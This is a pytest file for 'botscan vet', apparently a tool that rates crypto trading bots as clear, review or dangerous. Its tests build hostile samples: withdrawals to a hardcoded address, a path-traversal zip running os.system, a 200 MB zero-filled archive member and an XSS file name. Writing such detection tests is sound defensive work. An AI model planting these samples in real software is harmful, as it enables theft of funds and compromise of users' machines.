"""`botscan vet`: the verdict on the labelled fixture bots, the command's contract (HTML report,
summary, JSON, exit codes), suppressions it does not honour, and archives it reads."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from osv_server import osv_server

from botscan import catalog
from botscan.model import NoticeKind
from botscan.scan import ScanOptions, scan
from botscan.verdict import CLEAR, DANGEROUS, REVIEW, judge, unsuppress

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"

# What a trader should be told about each labelled bot, and why.
EXPECTED = {
    # honest bots
    "trade_only_bot": CLEAR,           # reads and trades; keys from the environment
    "honest_alerts_bot": REVIEW,       # Telegram/Discord alerts, a withdrawal its README explains
    "freqtrade_strategy": REVIEW,      # a committed exchange key in config.json
    "hummingbot_conf": REVIEW,         # connector keys written in conf files
    "octobot_user": REVIEW,            # reversible "encrypted" keys committed
    "ccxt_bot": REVIEW,                # hardcoded keys, TLS off, keys in logs
    "binance_bot": REVIEW,
    "rest_bot": REVIEW,
    "wallet_bot": REVIEW,              # signs on-chain with a committed private key
    "docker_bot": REVIEW,              # API on 0.0.0.0 with sample credentials, secrets in images
    # malicious or backdoored bots
    "signals_bot": DANGEROUS,          # withdrawals to the author's address
    "deps_bot": DANGEROUS,             # a known-malicious package in requirements
    "backdoor_webhook_bot": DANGEROUS,  # keys posted to a webhook whose URL is base64-encoded
    "backdoor_paste_exec": DANGEROUS,   # exec of a paste-site payload, curl | sh
    "backdoor_getattr_withdraw": DANGEROUS,  # a withdrawal to a fixed address behind getattr
    "backdoor_setup_phonehome": DANGEROUS,   # setup.py posts the host name and environment
    "backdoor_obfuscated": DANGEROUS,   # PyArmor stub, escape soup, a patched ccxt sign()
    "backdoor_pyc": DANGEROUS,         # sourceless bytecode and a .so that Python imports in
                                       # place of the reviewed .py; a deleted key file's .pyc
}


@pytest.mark.parametrize("bot", sorted(EXPECTED))
def test_fixture_verdicts(bot: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    from botscan.deps import AuditSettings

    offline = ScanOptions(jobs=1, audit=AuditSettings(offline=True), history=False,
                          use_default_excludes=False, exclude=(".git/",))
    result = unsuppress(scan([FIXTURES / bot], offline))
    verdict = judge(result, catalog.rules())
    assert verdict.level == EXPECTED[bot], [f.rule_id for f in verdict.drivers]
    assert 0 <= verdict.score <= 10
    assert verdict.score == round(min(10.0, sum(p.points for p in verdict.parts)), 1)
    if verdict.level == DANGEROUS:
        assert verdict.score >= 6
    if verdict.level == CLEAR:
        assert verdict.drivers == () and verdict.score < 1


def test_every_fixture_bot_has_an_expected_verdict() -> None:
    assert {p.name for p in FIXTURES.iterdir() if p.is_dir()} == set(EXPECTED)


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "XDG_CACHE_HOME": str(cwd / ".cache"), "NO_COLOR": "1"}
    return subprocess.run([sys.executable, "-m", "botscan", "vet", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=300)


def test_vet_prints_the_verdict_and_writes_the_html_report(tmp_path: Path) -> None:
    run = _cli(str(FIXTURES / "signals_bot"), "--offline", cwd=tmp_path)
    assert run.returncode == 1, run.stderr
    out = run.stdout
    assert out.startswith("Verdict: DANGEROUS  (risk score ")
    assert "signs of malice" in out and "BOT305" in out
    assert "Capability profile:" in out and "Key needs:" in out
    assert "Full report: botscan-report.html" in out
    page = (tmp_path / "botscan-report.html").read_text()
    assert "Verdict: dangerous" in page and "How the risk score adds up" in page


def test_vet_exit_codes_follow_the_verdict(tmp_path: Path) -> None:
    clear = _cli(str(FIXTURES / "trade_only_bot"), "--offline", "--no-html", cwd=tmp_path)
    assert clear.returncode == 0 and "NO BLOCKING ISSUES" in clear.stdout
    assert not (tmp_path / "botscan-report.html").exists()
    review = FIXTURES / "honest_alerts_bot"
    assert _cli(str(review), "--offline", "--no-html", cwd=tmp_path).returncode == 1
    assert _cli(str(review), "--offline", "--no-html", "--fail-on", "dangerous",
                cwd=tmp_path).returncode == 0
    assert _cli(str(FIXTURES / "signals_bot"), "--offline", "--no-html", "--fail-on", "never",
                cwd=tmp_path).returncode == 0
    missing = _cli("no-such-bot", cwd=tmp_path)
    assert missing.returncode == 2 and missing.stderr.count("\n") == 1


def test_vet_json_holds_the_verdict_and_its_parts(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    run = _cli(str(FIXTURES / "honest_alerts_bot"), "--offline", "--format", "json",
               "-o", "out/report.html", "--sarif", "out.sarif", cwd=tmp_path)
    report = json.loads(run.stdout)
    verdict = report["verdict"]
    assert verdict["level"] == REVIEW
    assert [d["rule_id"] for d in verdict["drivers"]] == ["BOT301"]
    funds = next(p for p in verdict["parts"] if p["name"] == "moves funds")
    assert funds["points"] > 0 and any(r.startswith("withdraw (bot.py:") for r in funds["reasons"])
    sarif = json.loads((tmp_path / "out.sarif").read_text())
    assert sarif["runs"][0]["properties"]["verdict"]["level"] == REVIEW
    assert "Verdict: review" in (tmp_path / "out" / "report.html").read_text()


def test_the_authors_suppressions_do_not_hide_a_backdoor(tmp_path: Path) -> None:
    bot = tmp_path / "bot"
    bot.mkdir()
    (bot / "sweep.py").write_text(
        "import ccxt\n"
        "ex = ccxt.binance()\n"
        "# botscan: ignore[BOT305,BOT301] -- fee payment, audited\n"
        "ex.withdraw('USDT', 100, 'TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE')\n")
    plain = scan([bot], ScanOptions(jobs=1, dependencies=False))
    assert plain.active == []  # `scan` honours the author's own suppressions
    result = unsuppress(plain)
    verdict = judge(result, catalog.rules())
    assert verdict.level == DANGEROUS
    lifted = next(f for f in result.findings if f.rule_id == "BOT305")
    assert lifted.evidence["author_suppressed"] == "fee payment, audited"
    run = _cli(str(bot), "--offline", "--no-html", cwd=tmp_path)
    assert "DANGEROUS" in run.stdout


def test_vet_reads_what_scan_skips_by_default(tmp_path: Path) -> None:
    """A backdoor in a committed virtualenv or build folder still runs if the owner uses it."""
    bot = tmp_path / "bot"
    (bot / "venv" / "lib").mkdir(parents=True)
    (bot / "venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (bot / "venv" / "lib" / "ccxt_patch.py").write_text(
        "import ccxt\nccxt.binance().withdraw('USDT', 5, 'TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE')\n")
    (bot / "main.py").write_text("print('hello')\n")
    assert _cli(str(bot), "--offline", "--no-html", cwd=tmp_path).returncode == 1


def test_vet_turns_history_and_the_audit_on(tmp_path: Path) -> None:
    bot = tmp_path / "bot"
    bot.mkdir()
    git = ["git", "-C", str(bot), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run([*git, "init", "-q"], check=True)
    (bot / "requirements.txt").write_text("requests==2.19.0\n")
    (bot / "config.py").write_text(
        'BINANCE_API_SECRET = "Zq4mX8pL2vR7nT1cK9wB3sD6fH0jG5yA8eU4iO2rQ7tW1zX3vC9bN6mL5kJ8hG2f"\n')
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "first"], check=True)
    (bot / "config.py").write_text('import os\nBINANCE_API_SECRET = os.environ["SECRET"]\n')
    subprocess.run([*git, "commit", "-qam", "keys out"], check=True)
    with osv_server() as server:
        run = _cli(str(bot), "--osv-url", server.url, "--format", "json", cwd=tmp_path)
    report = json.loads(run.stdout)
    rules = {f["rule_id"] for f in report["findings"]}
    assert {"BOT104", "BOT601"} <= rules
    assert report["verdict"]["level"] == REVIEW
    assert not any(n["kind"] == "not-audited" for n in report["notices"])


def test_vet_on_a_hostile_zip_writes_nothing_and_still_judges(tmp_path: Path) -> None:
    """The issue's archive: a `../../escape.py` member and 200 MB of zeros."""
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    archive = work / "bot.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("bot-main/bot.py",
                        "import ccxt\nex = ccxt.kraken()\nex.create_order('BTC/USD', 'market', "
                        "'buy', 0.01)\n")
        bundle.writestr("../../escape.py", "import os\nos.system('touch /tmp/pwned')\n")
        bundle.writestr("bot-main/data/zeros.csv", b"\0" * (200 * 1024 * 1024))
    before = sorted(p for p in tmp_path.rglob("*"))
    run = _cli(str(archive), "--offline", "--no-html", "--format", "json", cwd=work)
    assert sorted(p for p in tmp_path.rglob("*") if ".cache" not in p.parts) == before
    assert not (tmp_path / "escape.py").exists()
    report = json.loads(run.stdout)
    assert report["verdict"]["level"] in (CLEAR, REVIEW, DANGEROUS)
    kinds = {(n["path"], n["kind"]) for n in report["notices"]}
    assert ("escape.py", "archive") in kinds
    assert ("bot-main/data/zeros.csv", "too-large") in kinds
    assert any(c["name"] == "trade" for c in report["capabilities"])


def test_the_verdict_counts_what_could_not_be_read(tmp_path: Path) -> None:
    bot = tmp_path / "bot"
    bot.mkdir()
    # It calls an HTTP client, so a detector must read it (a file no detector could fire on
    # is fully analysed without parsing: see botscan/analyzers/python/prefilter.py).
    (bot / "legacy.py").write_text("import requests\nprint 'python 2'\n")
    result = scan([bot], ScanOptions(jobs=1, dependencies=False))
    assert any(n.kind is NoticeKind.NOT_PARSED for n in result.notices)
    verdict = judge(result, catalog.rules())
    unread = next(p for p in verdict.parts if p.name == "not fully analysed")
    assert unread.points > 0 and unread.reasons == ("not-parsed",)


def test_a_detector_can_raise_a_findings_level_but_never_lower_it() -> None:
    from botscan.model import Confidence, Finding, Location, ScanResult, Severity

    def finding(rule_id: str, **evidence: object) -> Finding:
        return Finding(rule_id, Severity.MEDIUM, Confidence.HIGH, "m", Location("a.py", 1),
                       evidence=dict(evidence))

    def level(*findings: Finding) -> str:
        result = ScanResult(list(findings), [], 1, 0.0, ["."])
        return judge(result, catalog.rules()).level

    assert level(finding("BOT508")) == REVIEW
    assert level(finding("BOT508", verdict=DANGEROUS)) == DANGEROUS
    assert level(finding("BOT305", verdict=CLEAR)) == DANGEROUS
    assert level(finding("BOT508", verdict="whatever")) == REVIEW


def test_the_vet_report_escapes_what_the_bot_named(tmp_path: Path) -> None:
    """File names reach the verdict's score parts (`withdraw (<name>:2)`): they are text."""
    bot = tmp_path / "bot"
    bot.mkdir()
    name = "<img src=x onerror=alert(1)>.py"
    (bot / name).write_text("import ccxt\nccxt.binance().withdraw('USDT', 5, ADDRESS)\n")
    run = _cli(str(bot), "--offline", "-o", "vet.html", cwd=tmp_path)
    page = (tmp_path / "vet.html").read_text()
    assert "<title>botscan vet: bot</title>" in page
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;.py:2" in page
    assert "withdraw (" in run.stdout


def test_no_pile_of_ordinary_findings_scores_like_one_sign_of_malice() -> None:
    """Every non-malicious part at its cap stays under the score of one backdoor."""
    from botscan.model import (
        Capability,
        Confidence,
        Evidence,
        Finding,
        Location,
        Notice,
        ScanResult,
        Severity,
    )

    rules = catalog.rules()
    ordinary = [Finding(rule_id, Severity.CRITICAL, Confidence.HIGH, "m",
                        Location(f"f{i}.py", 1))
                for i in range(20) for rule_id, rule in rules.items()
                if rule.verdict != DANGEROUS]
    capabilities = [Capability(name, [Evidence("a.py", 1, "x")])
                    for name in ("read", "trade", "transfer", "withdraw", "keys", "onchain")]
    notices = [Notice(f"n{i}", NoticeKind.CRASH, "x") for i in range(100)]
    worst = judge(ScanResult(ordinary, notices, 1, 0.0, ["."], capabilities), rules)
    assert worst.level == REVIEW and worst.score < 6
    backdoor = Finding("BOT503", Severity.CRITICAL, Confidence.HIGH, "m", Location("b.py", 1))
    alone = judge(ScanResult([backdoor], [], 1, 0.0, ["."]), rules)
    assert alone.level == DANGEROUS and alone.score >= 6
